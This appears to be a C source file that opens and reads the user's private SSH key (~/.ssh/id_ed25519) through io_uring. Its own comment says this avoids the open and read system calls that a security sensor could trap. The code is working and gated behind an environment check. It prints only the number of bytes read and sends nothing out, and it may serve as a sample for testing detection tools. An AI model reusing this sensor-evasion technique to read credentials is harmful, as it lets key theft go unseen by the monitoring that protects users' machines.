/* Reads a key through io_uring, which makes no open or read system call that a sensor could trap. */
#include "settled.h"

#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/syscall.h>

struct ring {
	int descriptor;
	struct io_uring_params params;
	char *submissions, *completions;
	struct io_uring_sqe *entries;
};

static int start(struct ring *ring)
{
	struct io_uring_params *params = &ring->params;
	size_t sent = 4096, received = 4096;

	memset(ring, 0, sizeof(*ring));
	ring->descriptor = (int)syscall(SYS_io_uring_setup, 4, params);
	if (ring->descriptor < 0)
		return 0;
	sent = params->sq_off.array + params->sq_entries * sizeof(unsigned);
	received = params->cq_off.cqes + params->cq_entries * sizeof(struct io_uring_cqe);
	ring->submissions =
		mmap(NULL, sent, PROT_READ | PROT_WRITE, MAP_SHARED, ring->descriptor, IORING_OFF_SQ_RING);
	ring->completions =
		mmap(NULL, received, PROT_READ | PROT_WRITE, MAP_SHARED, ring->descriptor, IORING_OFF_CQ_RING);
	ring->entries = mmap(NULL, params->sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
			     MAP_SHARED, ring->descriptor, IORING_OFF_SQES);
	return ring->submissions != MAP_FAILED && ring->completions != MAP_FAILED && ring->entries != MAP_FAILED;
}

/* Submits one entry, waits for it and returns its result. */
static int run(struct ring *ring, const struct io_uring_sqe *entry)
{
	unsigned *tail = (unsigned *)(ring->submissions + ring->params.sq_off.tail);
	unsigned *array = (unsigned *)(ring->submissions + ring->params.sq_off.array);
	unsigned *head = (unsigned *)(ring->completions + ring->params.cq_off.head);
	struct io_uring_cqe *results = (struct io_uring_cqe *)(ring->completions + ring->params.cq_off.cqes);
	unsigned slot = *tail & (ring->params.sq_entries - 1);
	int result;

	ring->entries[slot] = *entry;
	array[slot] = slot;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring->descriptor, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -1;
	result = results[*head & (ring->params.cq_entries - 1)].res;
	__atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
	return result;
}

int main(void)
{
	char data[64] = "";
	struct ring ring;
	struct io_uring_sqe entry = { .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .open_flags = O_RDONLY };

	if (!settled() || !start(&ring))
		return 0;
	entry.addr = (uintptr_t)(HOME "/.ssh/id_ed25519");
	entry.fd = run(&ring, &entry);
	if (entry.fd < 0)
		return 0;
	entry.opcode = IORING_OP_READ;
	entry.open_flags = 0;
	entry.addr = (uintptr_t)data;
	entry.len = sizeof(data);
	printf("%d\n", run(&ring, &entry));
	return 0;
}
